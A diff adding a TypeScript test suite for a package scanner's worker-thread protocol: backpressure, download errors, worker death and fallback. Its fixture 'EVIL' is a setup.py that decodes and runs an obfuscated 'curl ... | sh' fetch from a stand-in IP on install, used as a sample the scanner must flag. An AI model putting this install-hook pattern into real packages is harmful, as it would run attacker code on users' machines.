@@ -1,0 +1,211 @@
+// The analysis worker's protocol, run over a real MessageChannel: the same checks as in-thread,
+// chunks sent no faster than the worker takes them, download failures and early stops passed
+// through, and a worker that dies turns its pending checks into errors, never clean results.
+
+import { randomBytes } from 'node:crypto';
+import { EventEmitter } from 'node:events';
+import { MessageChannel, type MessagePort } from 'node:worker_threads';
+
+import { makeSdist, makeTar, gzip } from './helpers/archives.js';
+import { CheckPool, readAndAnalyze, serveChecks, type Endpoint } from '../src/offload/index.js';
+
+const EVIL = `
+import os, subprocess, base64
+from setuptools import setup
+cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
+subprocess.Popen(cmd, shell=True)
+setup(name="evil", version="1.0")
+`;
+
+const evil = makeSdist('evil', '1.0', { 'setup.py': EVIL });
+const plain = makeSdist('plain', '1.0');
+
+/** A download as the index client gives it: chunks, then the end or an error; records what was read. */
+class Stream implements AsyncIterable<Uint8Array> {
+  pulled = 0;
+  closed = false;
+  finished = false;
+  constructor(
+    private readonly data: Uint8Array,
+    private readonly chunk = 1024,
+    private readonly failAt?: { chunk: number; message: string },
+  ) {}
+
+  async *[Symbol.asyncIterator](): AsyncGenerator<Uint8Array> {
+    try {
+      for (let at = 0, i = 0; at < this.data.length; at += this.chunk, i++) {
+        if (this.failAt && i === this.failAt.chunk) throw new Error(this.failAt.message);
+        this.pulled++;
+        // a view into a bigger buffer, as pooled network buffers are
+        yield this.data.subarray(at, at + this.chunk);
+      }
+      this.finished = true;
+    } finally {
+      this.closed = true;
+    }
+  }
+}
+
+interface Channel {
+  pool: CheckPool;
+  worker: MessagePort;
+  events: EventEmitter;
+  close(): void;
+}
+
+/** A pool whose worker is serveChecks on the other end of a MessageChannel. */
+async function channelPool(serve = true): Promise<Channel> {
+  const { port1, port2 } = new MessageChannel();
+  const events = new EventEmitter();
+  const port = Object.assign(events, {
+    postMessage: (m: unknown, transfer?: readonly ArrayBuffer[]) => port1.postMessage(m, transfer as ArrayBuffer[]),
+  });
+  port1.on('message', (m) => events.emit('message', m));
+  const endpoint: Endpoint = { port: port as unknown as Endpoint['port'], terminate: async () => void port2.close() };
+  const pool = new CheckPool(() => endpoint);
+  if (serve) serveChecks(port2);
+  // the first check starts the worker and runs here; the worker is ready once it said so
+  await pool.check(plain.filename, new Stream(plain.data));
+  await new Promise((r) => setImmediate(r));
+  return {
+    pool,
+    worker: port2,
+    events,
+    close: () => {
+      port1.close();
+      port2.close();
+    },
+  };
+}
+
+describe('CheckPool over a message channel', () => {
+  it('gives the same check as reading in-thread, for a suspicious and a plain sdist', async () => {
+    const ch = await channelPool();
+    try {
+      for (const s of [evil, plain]) {
+        const remote = await ch.pool.check(s.filename, new Stream(s.data, 333));
+        const local = await readAndAnalyze(s.filename, s.data);
+        expect(remote).toEqual(local);
+      }
+      expect((await ch.pool.check(evil.filename, new Stream(evil.data))).suspicious).toBe(true);
+      expect(ch.pool.counts).toEqual({ local: 1, worker: 3 });
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('runs several checks at once', async () => {
+    const ch = await channelPool();
+    try {
+      const results = await Promise.all([evil, plain, evil, plain].map((s) => ch.pool.check(s.filename, new Stream(s.data, 100))));
+      expect(results.map((r) => r.suspicious)).toEqual([true, false, true, false]);
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('sends no more than a window of chunks ahead of the worker', async () => {
+    const ch = await channelPool(false);
+    try {
+      // nobody serves: the pool may send its window and must then wait
+      (ch.pool as unknown as { state: string }).state = 'ready';
+      const stream = new Stream(new Uint8Array(100 * 1024), 1024);
+      const pending = ch.pool.check('big-1.0.tar.gz', stream);
+      for (let i = 0; i < 5; i++) await new Promise((r) => setImmediate(r));
+      expect(stream.pulled).toBe(16);
+      await ch.pool.close();
+      await expect(pending).rejects.toThrow('the analysis worker was stopped');
+      expect(stream.closed).toBe(true);
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('fails the check with the download error, as the in-thread read does', async () => {
+    const ch = await channelPool();
+    try {
+      const message = 'hash mismatch for evil-1.0.tar.gz from http://127.0.0.1/x: expected sha256:00, got sha256:11';
+      const remote = ch.pool.check(evil.filename, new Stream(evil.data, 64, { chunk: 3, message }));
+      await expect(remote).rejects.toThrow(message);
+      await expect(readAndAnalyze(evil.filename, new Stream(evil.data, 64, { chunk: 3, message }))).rejects.toThrow(message);
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('stops the download when the reader stops early', async () => {
+    const ch = await channelPool();
+    try {
+      const big = gzip(makeTar([{ name: 'b-1.0/setup.py', content: 'print(1)\n' }, { name: 'b-1.0/blob', content: new Uint8Array(randomBytes(200_000)) }]));
+      const stream = new Stream(big, 1024);
+      const check = await ch.pool.check('b-1.0.tar.gz', stream, { maxDownloadBytes: 8 * 1024 });
+      expect(check.limits.join('\n')).toContain('maxDownloadBytes');
+      expect(stream.closed).toBe(true);
+      expect(stream.finished).toBe(false);
+      expect(stream.pulled).toBeLessThan(40);
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('reads a stream to its end so the download can verify it', async () => {
+    const ch = await channelPool();
+    try {
+      const padded = gzip(makeTar([{ name: 'p-1.0/setup.py', content: 'from setuptools import setup\nsetup()\n' }, { name: 'p-1.0/data.bin', content: new Uint8Array(50_000) }]));
+      const stream = new Stream(padded, 512);
+      const check = await ch.pool.check('p-1.0.tar.gz', stream);
+      expect(check.error).toBeUndefined();
+      expect(stream.finished).toBe(true);
+      expect(check.pkgInfo).toBeNull();
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('turns the checks of a worker that died into errors, then checks in-thread', async () => {
+    const ch = await channelPool(false);
+    try {
+      (ch.pool as unknown as { state: string }).state = 'ready';
+      const pending = ch.pool.check(evil.filename, new Stream(evil.data));
+      await new Promise((r) => setImmediate(r));
+      ch.events.emit('exit', 1);
+      await expect(pending).rejects.toThrow('the analysis worker stopped (exit code 1)');
+      const after = await ch.pool.check(evil.filename, new Stream(evil.data));
+      expect(after.suspicious).toBe(true);
+      expect(ch.pool.counts.local).toBe(2);
+    } finally {
+      ch.close();
+    }
+  });
+
+  it('while the worker starts, reads small files here and has big ones wait for it', async () => {
+    const { port1, port2 } = new MessageChannel();
+    const events = new EventEmitter();
+    const port = Object.assign(events, { postMessage: (m: unknown, t?: readonly ArrayBuffer[]) => port1.postMessage(m, t as ArrayBuffer[]) });
+    port1.on('message', (m) => events.emit('message', m));
+    const pool = new CheckPool(() => ({ port: port as unknown as Endpoint['port'], terminate: async () => void port2.close() }));
+    try {
+      // the first check starts the worker, and being big, waits for it
+      const big = new Stream(evil.data);
+      const waiting = pool.check(evil.filename, big, undefined, 50 * 1024 * 1024);
+      const small = await pool.check(plain.filename, new Stream(plain.data), undefined, plain.data.length);
+      expect(small.suspicious).toBe(false);
+      for (let i = 0; i < 5; i++) await new Promise((r) => setImmediate(r));
+      expect(big.pulled).toBe(0);
+      serveChecks(port2);
+      expect((await waiting).suspicious).toBe(true);
+      expect(pool.counts).toEqual({ local: 1, worker: 1 });
+    } finally {
+      await pool.close();
+      port1.close();
+    }
+  });
+
+  it('checks in-thread when no worker can be started', async () => {
+    const pool = new CheckPool(() => undefined);
+    const check = await pool.check(evil.filename, new Stream(evil.data));
+    expect(check.suspicious).toBe(true);
+    expect(pool.counts).toEqual({ local: 1, worker: 0 });
+    await pool.close();
+  });
+});
